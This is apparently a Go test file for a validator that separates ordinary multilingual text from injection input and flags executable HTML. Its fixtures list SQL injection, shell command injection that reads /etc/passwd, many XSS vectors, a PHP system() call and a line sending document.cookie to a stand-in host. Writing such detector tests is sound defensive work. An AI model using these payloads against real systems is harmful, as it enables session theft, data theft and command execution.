package writing

import (
	"strings"
	"testing"
)

func TestIs_tellsTextFromWhatProgramsAreFed(t *testing.T) {
	tests := []struct {
		name, value string
		want        bool
	}{
		{"Japanese", "サーバー/ネットワークの件でお願いします", true},
		{"Korean", "견적서를 보내주세요 (부가세 포함)", true},
		{"Russian", "Спасибо; когда будет доставка?", true},
		{"Shift_JIS", "\x83\x54\x81\x5b\x83\x6f\x81\x5b\x82\xcc\x8c\x8f\x82\xc5\x82\xb7\x81\x42", true},
		{"English", "Could you tell me the\ntime when you open", true},
		{"English with a command", "To list files use ls -la /home/user; to read one use cat notes.txt, it's easy for you", true},
		{"French", "L'été dernier, c'était l'enfer : je vous remercie", true},
		{"German", "Können Sie bitte die Rechnung (Nr. 12/2025) nochmals senden?", true},
		{"a post", "<h2>Setup</h2><p>npm install && npm test</p>", true},
		{"Markdown", "# Title\n\n- one\n- two\n\n```bash\nls\n```\n", true},
		{"a short search", "how to exit vim :q!", true},
		{"empty", "", false},
		{"two words", "garden chair", false},
		{"SQL", "1' or 1=1 union select name from users where a is not null and b in (1,2)-- -", false},
		{"SQL with an alias", "1)and (select*from(select(sleep(12)))a)-- : 1)and (select*from(select(sleep(12)))a)--", false},
		{"shell", "; for i in $(ls -a); do cat $i; done", false},
		{"a Japanese word before a command", "写真;cat /etc/passwd", false},
		{"full-width letters", "ｕｎｉｏｎ　ｓｅｌｅｃｔ　ｎａｍｅ　ｆｒｏｍ　ｕｓｅｒｓ", false},
		{"script", "document.location='//a.example/?c='+document.cookie", false},
		{"markup", "<img src=x onerror=alert(1)>", false},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			if got := Is(test.value); got != test.want {
				var counted tally
				counted.read(test.value)
				t.Errorf("got %t, want %t; counted %+v", got, test.want, counted)
			}
		})
	}
}

func TestActive_findsWhatRuns(t *testing.T) {
	tests := []struct {
		value string
		want  bool
	}{
		{`<p style="color:#333">お知らせ</p><a href="https://www.example.co.jp/?a=1&b=2" target="_blank">詳細</a>`, false},
		{`<table border="1"><tr><td>1</td></tr></table><img src="/a.jpg" alt="it's" onerror="">`, false},
		{`<iframe src="https://www.youtube.com/embed/x" width="560"></iframe>`, false},
		{`<a href="javascript:void(0)">x</a>`, false},
		{`javascript:void(0);`, false},
		{`Is onclick="..." deprecated? And what about <script> in the head?`, false},
		{`<?xml version="1.0"?><feed><entry/></feed>`, false},
		{`a < b and c > d, I <3 you`, false},
		{`<3 いつも応援しています`, false},
		{`<script>alert(1)</script>`, true},
		{`<ScRiPt src=//a.example/x.js></sCrIpT>`, true},
		{`<img src=x onerror=alert(1)>`, true},
		{`<img/src='x'/onerror='alert(1)'>`, true},
		{"<a href=\"java\tscript:alert(1)\">x</a>", true},
		{`<svg/onload=alert(1)`, true},
		{`<iframe src=javascript:alert(1)>`, true},
		{`<iframe src="https://attacker.example/">`, true},
		{`<x onclick=alert(1)>click</x>`, true},
		{`<p><img src="x" ` + "`" + `<script>alert(1)</script>` + "`" + `>`, true},
		{`<div style="width:expression(alert(1))">`, true},
		{`<form action=//a.example>`, true},
		{`<!--<img src="--><img src=x onerror=alert(1)//">`, true},
		{`" onmouseover="alert(1)`, true},
		{`' autofocus onfocus=alert(1) x='`, true},
		{`';alert(1)//`, true},
		{`javascript:alert(1)`, true},
		{`</title><script>alert(1)</script>`, true},
		{`<?php system('id'); ?>`, true},
	}
	for _, test := range tests {
		if got := Active(test.value); got != test.want {
			t.Errorf("%q: got %t, want %t", test.value, got, test.want)
		}
	}
}

func TestDocument_looksIntoEveryString(t *testing.T) {
	odd := func(text string) bool { return strings.Contains(text, "!") }
	for value, want := range map[string]bool{
		`{"a":[1,"b",{"c":null}]}`: true, ` [] `: true, `{"a":1}{"b":2}`: true, `{"a":"{\"b\":\"c\"}"}`: true,
		`{"a":["x!"]}`: false, `{"x!":1}`: false, `{"a":"{\"b\":\"c!\"}"}`: false, `{"a":"\u0021"}`: false,
		`{"a":1`: false, `{"a":1}'`: false, `"a"`: false, `1`: false, ``: false, `{"a":1} or 1`: false,
		strings.Repeat("[", 40) + strings.Repeat("]", 40): false,
	} {
		if got := Document(value, odd); got != want {
			t.Errorf("%s: got %t, want %t", value, got, want)
		}
	}
}

// Whatever it is asked about, it answers, and what stands around an element hides nothing of it.
func FuzzWriting(f *testing.F) {
	f.Add("<p>a</p>", "<a b='")
	f.Add("\xff\xfe", "{\"a\":")
	f.Fuzz(func(t *testing.T, before, after string) {
		Is(before + after)
		Document(before+after, func(string) bool { return false })
		if value := before + "<script>alert(1)</script>" + after; !Active(value) {
			t.Errorf("%q: got harmless", value)
		}
	})
}
